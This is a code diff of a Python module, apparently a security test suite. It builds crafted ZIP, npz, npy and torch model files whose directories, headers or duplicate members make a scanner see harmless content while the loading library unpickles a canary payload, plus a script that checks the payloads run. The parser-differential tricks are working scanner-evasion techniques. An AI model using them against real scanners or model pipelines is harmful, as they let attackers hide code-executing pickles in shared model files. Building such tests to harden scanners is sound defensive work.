@@ -51,7 +51,7 @@ def _deflate(body: bytes) -> bytes:
     return compressor.compress(body) + compressor.flush()
 
 
-def _members(members: list[tuple[str, bytes, int]], start: int = 0) -> tuple[bytes, list[_Entry]]:
+def zip_members(members: list[tuple[str, bytes, int]], start: int = 0) -> tuple[bytes, list[_Entry]]:
     """Local headers and data for (name, body, method) members, laid out from byte `start`."""
     out, entries = bytearray(), []
     for name, body, method in members:
@@ -63,17 +63,17 @@ def _members(members: list[tuple[str, bytes, int]], start: int = 0) -> tuple[byt
     return bytes(out), entries
 
 
-def _directory(entries: list[_Entry]) -> bytes:
+def zip_directory(entries: list[_Entry]) -> bytes:
     return b"".join(struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, entry.method, 0, 0, entry.crc,
                                 entry.compressed, entry.size, len(entry.name), 0, 0, 0, 0, 0, entry.offset) + entry.name
                     for entry in entries)
 
 
-def _end(entries: int, size: int, offset: int) -> bytes:
+def zip_end(entries: int, size: int, offset: int) -> bytes:
     return struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, size, offset, 0)
 
 
-def _zip64_end(entries: int, size: int, offset: int, record_at: int) -> bytes:
+def zip64_end(entries: int, size: int, offset: int, record_at: int) -> bytes:
     record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, size, offset)
     return record + struct.pack("<4sIQI", b"PK\x06\x07", 0, record_at, 1)
 
@@ -89,13 +89,13 @@ def zip64_record_with_a_second_directory(canary: Path, hidden: bytes | None = No
     the payload (or is `hidden`). zipfile and miniz prefer the ZIP64 record even when the classic
     one is not maxed out."""
     benign = pickle.dumps({"w": 1}, 2)
-    body, entries = _members(_torch_members(benign) + [("archive/data.pkl", hidden or payload(canary), 0)])
+    body, entries = zip_members(_torch_members(benign) + [("archive/data.pkl", hidden or payload(canary), 0)])
     harmless, evil = entries[:2], [entries[2], entries[1]]
-    first, second = _directory(harmless), _directory(evil)
+    first, second = zip_directory(harmless), zip_directory(evil)
     second_at = len(body) + len(first)
     record_at = second_at + len(second)
-    return (body + first + second + _zip64_end(len(evil), len(second), second_at, record_at)
-            + _end(len(harmless), len(first), len(body)))
+    return (body + first + second + zip64_end(len(evil), len(second), second_at, record_at)
+            + zip_end(len(harmless), len(first), len(body)))
 
 
 def npz_whose_end_record_undercounts(canary: Path) -> bytes:
@@ -106,10 +106,10 @@ def npz_whose_end_record_undercounts(canary: Path) -> bytes:
 
     harmless = io.BytesIO()
     numpy.save(harmless, numpy.zeros(2))
-    evil = _npy_header("'|O'") + payload(canary)
-    body, entries = _members([("x.npy", harmless.getvalue(), 0), ("x.npy", evil, 0)])
-    directory = _directory(entries)
-    return body + directory + _end(1, len(directory), len(body))
+    evil = npy_header("'|O'") + payload(canary)
+    body, entries = zip_members([("x.npy", harmless.getvalue(), 0), ("x.npy", evil, 0)])
+    directory = zip_directory(entries)
+    return body + directory + zip_end(1, len(directory), len(body))
 
 
 def duplicate_data_pkl(canary: Path) -> bytes:
@@ -127,25 +127,25 @@ def duplicate_data_pkl(canary: Path) -> bytes:
     name = b"archive/data.pkl"
     local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, zlib.crc32(evil), len(deflated), len(evil),
                         len(name), 0) + name + deflated
-    version, [version_entry] = _members([("archive/version", b"3\n", 0)], start=len(local))
+    version, [version_entry] = zip_members([("archive/version", b"3\n", 0)], start=len(local))
     entries = [_Entry(name, zlib.crc32(deflated[:3]), 3, 3, 0), version_entry,
                _Entry(name, zlib.crc32(evil), len(deflated), len(evil), 8)]
-    directory = _directory(entries)
+    directory = zip_directory(entries)
     body = local + version
-    return body + directory + _end(len(entries), len(directory), len(body))
+    return body + directory + zip_end(len(entries), len(directory), len(body))
 
 
 def junk_offset_onto_a_harmless_directory(canary: Path, hidden: bytes | None = None) -> bytes:
     """The end record's directory offset points at the payload's (or `hidden`'s) directory, which
     torch's reader reads; its size is chosen so that zipfile's "data before the archive" correction
     lands on a harmless directory placed right before the end record."""
-    body, entries = _members(_torch_members(hidden or payload(canary)) + _torch_members(pickle.dumps({"w": 1}, 2)))
-    evil = _directory(entries[:2])
+    body, entries = zip_members(_torch_members(hidden or payload(canary)) + _torch_members(pickle.dumps({"w": 1}, 2)))
+    evil = zip_directory(entries[:2])
     shift = len(evil)  # zipfile: end - size - offset = (start of the harmless directory) - (start of the evil one)
     for entry in entries[2:]:
         entry.offset -= shift  # zipfile adds the shift back to every local header offset
-    harmless = _directory(entries[2:])
-    return body + evil + harmless + _end(2, len(harmless), len(body))
+    harmless = zip_directory(entries[2:])
+    return body + evil + harmless + zip_end(2, len(harmless), len(body))
 
 
 # ---- class 2: sniffed instead of parsed --------------------------------------------------------
@@ -185,13 +185,13 @@ def data_pkl_that_is_also_a_tar(canary: Path) -> bytes:
     header[148:156] = f"{sum(header):06o}\0 ".encode()
     padding = -len(content) % 512
     data_pkl = bytes(header) + content + b"\0" * (padding + 1024)
-    body, entries = _members(_torch_members(data_pkl))
-    directory = _directory(entries)
-    return body + directory + _end(len(entries), len(directory), len(body))
+    body, entries = zip_members(_torch_members(data_pkl))
+    directory = zip_directory(entries)
+    return body + directory + zip_end(len(entries), len(directory), len(body))
 
 
 # ---- class 3: headers parsed differently from the library that reads them ----------------------
-def _npy_header(descr: str) -> bytes:
+def npy_header(descr: str) -> bytes:
     text = "{'descr': " + descr + ", 'fortran_order': False, 'shape': (1,), }"
     text += " " * (63 - (10 + len(text)) % 64) + "\n"
     return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode()
@@ -199,7 +199,7 @@ def _npy_header(descr: str) -> bytes:
 
 def npy_with_object_spelled_out(canary: Path) -> bytes:
     """`'descr': 'object'`: numpy reads it as the object dtype and unpickles the body."""
-    return _npy_header("'object'") + payload(canary)
+    return npy_header("'object'") + payload(canary)
 
 
 def legacy_torch_with_a_hex_magic_number(canary: Path) -> bytes:
@@ -334,7 +334,7 @@ def all_attacks(canary: Path) -> list[Attack]:
 # ---- proving the payloads run ---------------------------------------------------------------
 _LIVE_SCRIPT = textwrap.dedent(
     """
-    import gzip, bz2, lzma, io, json, os, pickle, sys, time, zipfile
+    import gzip, bz2, lzma, io, json, os, pickle, sys, time, zipfile, zlib
     from pathlib import Path
 
     def every_pickle(handle):
@@ -348,9 +348,11 @@ _LIVE_SCRIPT = textwrap.dedent(
         if how == "pickle":
             with open(path, "rb") as handle:
                 every_pickle(handle)
-        elif how in ("gzip", "bz2", "xz"):
-            with {"gzip": gzip, "bz2": bz2, "xz": lzma}[how].open(path, "rb") as handle:
+        elif how in ("gzip", "bz2", "xz", "lzma"):
+            with {"gzip": gzip, "bz2": bz2, "xz": lzma, "lzma": lzma}[how].open(path, "rb") as handle:
                 every_pickle(handle)
+        elif how == "zlib":  # joblib's .z files: one zlib stream, then unpickled
+            every_pickle(io.BytesIO(zlib.decompress(Path(path).read_bytes())))
         elif how == "torch":
             import torch
             torch.load(path, weights_only=False)
